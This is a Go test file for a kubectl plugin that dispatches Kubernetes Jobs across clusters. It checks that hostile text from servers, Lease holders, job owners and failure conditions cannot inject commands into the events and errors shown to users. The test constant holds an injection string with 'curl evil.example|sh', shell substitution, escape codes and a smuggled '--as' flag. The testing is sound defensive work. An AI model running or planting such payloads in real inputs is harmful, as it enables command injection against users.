package dispatch

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"gotest.tools/v3/assert"
	coordinationv1 "k8s.io/api/coordination/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/util/validation/field"
	"k8s.io/utils/clock"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/internal/dispatchtest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/fleet"
)

const (
	// evil is text for fields in which an attacker can write anything.
	evil = "; run `curl evil.example|sh` #'\"$(touch x)\n\x1b[2J\u202e --as=evil `"
	// oddContext is an unusual context name of a user.
	oddContext = "the $(x) `y`"
)

// checkCommands checks that a text contains only the intended commands: simple commands, each in
// a context of the user.
func checkCommands(t *testing.T, text string) (commands [][]string) {
	t.Helper()
	for _, part := range command.Prose(text).Parts() {
		if !part.IsCommand {
			continue
		}
		words := shelltest.Words(t, part.Text)
		isOurs := len(words) > 2 && words[0] == "kubectl" && (words[1] == "--context" && strings.HasPrefix(words[2], oddContext) || words[1] == "jobs-managedby")
		assert.Assert(t, isOurs, "%q, of %q", words, text)
		// An owner is one word.
		others := words
		if i := slices.Index(words, "--managed-by"); i >= 0 {
			others = slices.Delete(slices.Clone(words), i, min(i+2, len(words)))
		}
		assert.Assert(t, !strings.Contains(strings.Join(others, " "), "evil"), "%q", words)
		commands = append(commands, words)
	}
	return commands
}

// refusals are answers of a server that refuses a request.
func refusals() map[string]*apierrors.StatusError {
	jobs := schema.GroupResource{Group: "batch", Resource: "jobs"}
	return map[string]*apierrors.StatusError{
		"forbidden": apierrors.NewForbidden(jobs, "small", errors.New(evil)),
		"invalid":   apierrors.NewInvalid(schema.GroupKind{Group: "batch", Kind: "Job"}, "small", field.ErrorList{field.Invalid(field.NewPath("spec"), evil, evil)}),
		"denied":    {ErrStatus: metav1.Status{Status: metav1.StatusFailure, Code: http.StatusBadRequest, Reason: metav1.StatusReasonBadRequest, Message: evil}},
		"no such":   {ErrStatus: metav1.Status{Status: metav1.StatusFailure, Code: http.StatusGone, Message: evil}},
	}
}

// TestHostileEvents checks that events and errors contain only our own commands, whatever the
// servers answer to whichever request.
func TestHostileEvents(t *testing.T) {
	troubles := []EventType{Warned, StatusRefused, Disconnected, Aborted}
	for how, refusal := range refusals() {
		for _, request := range []string{"here GET /jobs/", "here PATCH /jobs/", "here PATCH /status", "here POST /leases", "there GET /jobs/", "there POST /jobs", "there PATCH /jobs/"} {
			t.Run(how+" "+request, func(t *testing.T) {
				t.Parallel()
				s := newStage(t)
				parts := strings.Split(request, " ")
				server := map[string]*dispatchtest.Server{"here": s.here, "there": s.there}[parts[0]]
				server.Before = func(r *http.Request) *apierrors.StatusError {
					if r.Method == parts[1] && strings.Contains(r.URL.Path+"/", parts[2]) {
						return refusal
					}
					return nil
				}
				events := make(chan Event, 1000)
				here, there := clusterOf(t, s.here, oddContext), clusterOf(t, s.there, oddContext+" there")
				loop := NewLoop(here, there, LoopOptions{Identity: "me"}, clock.RealClock{}, NewRecorder(clock.RealClock{}, func(e *Event) { events <- *e }))
				ctx, stop := context.WithCancel(t.Context())
				ended := make(chan Outcome, 1)
				go func() { ended <- loop.Run(ctx, s.tasks)[0] }()
				for {
					e := awaits(t, events, "the dispatch is refused")
					checkCommands(t, e.Message)
					if e.Event == MirrorCreated {
						s.change()
					}
					if slices.Contains(troubles, e.Event) {
						assert.Assert(t, strings.Contains(e.Message, "curl evil.example"), "the event has no reason: %s", e.Message)
						break
					}
				}
				stop()
				if outcome := awaits(t, ended, "the dispatch ends"); outcome.Err != nil {
					checkCommands(t, string(command.ProseOf(outcome.Err)))
				}
			})
		}
	}
}

// change changes the origin and its mirror, so that changes have to be copied both ways.
func (s *stage) change() {
	s.Helper()
	jobs := delegation.Job().Resource
	s.here.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) { dispatchtest.Set(s.T, o, "spec.activeDeadlineSeconds", int64(60)) })
	s.there.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) {
		dispatchtest.Set(s.T, o, "status", `yaml:{active: 1, startTime: "2026-08-20T12:00:00Z"}`)
	})
}

// TestHostileWords checks that the holder of a Lease, the owner of an origin and the conditions
// of a mirror cannot add commands to events.
func TestHostileWords(t *testing.T) {
	jobs := delegation.Job().Resource
	for name, tt := range map[string]struct {
		// before changes the stage before the dispatch, then once the mirror exists.
		before, then func(s *stage)
		tells        EventType
		commands     [][]string
	}{
		"holder": {
			before: func(s *stage) {
				l := &coordinationv1.Lease{Spec: coordinationv1.LeaseSpec{HolderIdentity: new(evil), LeaseDurationSeconds: new(int32(1200))}}
				l.Name, l.Labels = delegation.LeaseName("small"), map[string]string{delegation.OriginUIDLabel: string(s.origin.GetUID())}
				_, err := clusterOf(s.T, s.here, "here").Kubernetes().CoordinationV1().Leases("ml").Create(s.Context(), l, metav1.CreateOptions{})
				assert.NilError(s, err)
			},
			tells: LeaseWaiting,
		},
		"owner": {
			then: func(s *stage) {
				s.here.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) { dispatchtest.Set(s.T, o, "spec.managedBy", evil) })
			},
			tells:    Aborted,
			commands: [][]string{{"kubectl", "--context", oddContext + " there", "-n", "ml", "delete", "job", "small"}},
		},
		"message": {
			then: func(s *stage) {
				s.there.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) {
					failed := map[string]any{"type": "Failed", "status": "True", "reason": evil, "message": evil, "lastTransitionTime": "2026-08-20T12:00:00Z"}
					target := maps.Clone(failed)
					target["type"] = "FailureTarget"
					o.Object["status"] = map[string]any{"startTime": "2026-08-20T12:00:00Z", "failed": int64(1), "conditions": []any{target, failed}}
				})
			},
			tells: JobFailed,
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newStage(t)
			if tt.before != nil {
				tt.before(s)
			}
			events := make(chan Event, 1000)
			loop := NewLoop(clusterOf(t, s.here, oddContext), clusterOf(t, s.there, oddContext+" there"), LoopOptions{Identity: "me", MirrorTTL: -1}, clock.RealClock{},
				NewRecorder(clock.RealClock{}, func(e *Event) { events <- *e }))
			ctx, stop := context.WithCancel(t.Context())
			ended := make(chan Outcome, 1)
			go func() { ended <- loop.Run(ctx, s.tasks)[0] }()
			for {
				e := awaits(t, events, string(tt.tells))
				found := checkCommands(t, e.Message)
				if e.Event == MirrorCreated && tt.then != nil {
					tt.then(s)
				}
				if e.Event == tt.tells {
					assert.Assert(t, strings.Contains(e.Message, "evil"), e.Message)
					assert.DeepEqual(t, found, tt.commands)
					break
				}
			}
			stop()
			awaits(t, ended, "the dispatch ends")
		})
	}
	held := fmt.Errorf("job ml/small: %w", &heldError{Holder: evil, Lease: "ml/small"})
	assert.Equal(t, len(checkCommands(t, string(command.ProseOf(held)))), 0)
}

// TestHostileCancel checks the commands in errors of cancel.
func TestHostileCancel(t *testing.T) {
	jobs := delegation.Job().Resource
	remove := func(context string) []string {
		return []string{"kubectl", "--context", context, "-n", "ml", "delete", "job", "small"}
	}
	for how, refusal := range refusals() {
		for name, tt := range map[string]struct {
			before   func(s *stage)
			commands [][]string
		}{
			"another owner": {
				func(s *stage) {
					s.here.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) { dispatchtest.Set(s.T, o, "spec.managedBy", evil) })
				},
				[][]string{{"kubectl", "jobs-managedby", "cancel", "small", "-n", "ml", "--context", oddContext, "--managed-by", evil}},
			},
			"its mirror stays": {
				func(s *stage) {
					var asked atomic.Int32
					s.there.Before = func(r *http.Request) *apierrors.StatusError {
						// The first deletion is a dry run.
						if r.Method == http.MethodDelete && asked.Add(1) > 1 {
							return refusal
						}
						return nil
					}
				},
				[][]string{remove(oddContext + " there")},
			},
			"nothing can be read": {
				func(s *stage) {
					s.there.Before = func(*http.Request) *apierrors.StatusError { return refusal }
				},
				nil,
			},
		} {
			t.Run(name+" "+how, func(t *testing.T) {
				t.Parallel()
				s := newStage(t)
				mirror := dispatchtest.SmallJob(t)
				mirror.SetLabels(map[string]string{delegation.OriginUIDLabel: string(s.origin.GetUID())})
				mirror = s.there.Create(t, jobs, mirror)
				here, there := clusterOf(t, s.here, oddContext), clusterOf(t, s.there, oddContext+" there")
				s.here.Change(t, jobs, "ml", "small", func(o *unstructured.Unstructured) {
					place := delegation.Place{ClusterUID: there.UID(), Namespace: "ml", Name: "small", UID: string(mirror.GetUID())}
					o.SetAnnotations(map[string]string{delegation.MirrorAnnotation: place.String()})
				})
				tt.before(s)
				events := make(chan Event, 100)
				c := &Canceller{
					Origin: here, Workers: []*fleet.Cluster{there}, Owner: delegation.Dispatch, Identity: "me", Clock: clock.RealClock{},
				}
				err := c.Cancel(t.Context(), NewRecorder(clock.RealClock{}, func(e *Event) { events <- *e }), delegation.Job(), "ml", "small")
				assert.ErrorContains(t, err, "evil")
				found := checkCommands(t, string(command.ProseOf(err)))
				var own [][]string
				for _, words := range found {
					if !slices.Contains(words, "can-i") {
						own = append(own, words)
					}
				}
				assert.DeepEqual(t, own, tt.commands)
			})
		}
	}
}

// TestAnotherName checks that the name in a server's answer never gets into a command if it
// differs from the requested one.
func TestAnotherName(t *testing.T) {
	server := dispatchtest.NewServer(t)
	job := dispatchtest.SmallJob(t)
	server.Create(t, delegation.Job().Resource, job)
	server.Change(t, delegation.Job().Resource, "ml", "small", func(o *unstructured.Unstructured) { o.SetName("--all") })
	cluster := clusterOf(t, server, oddContext)
	_, err := cluster.Get(t.Context(), delegation.Job().Resource, "ml", "small")
	assert.ErrorContains(t, err, `the answer to jobs.batch ml/small is "--all"`)
}
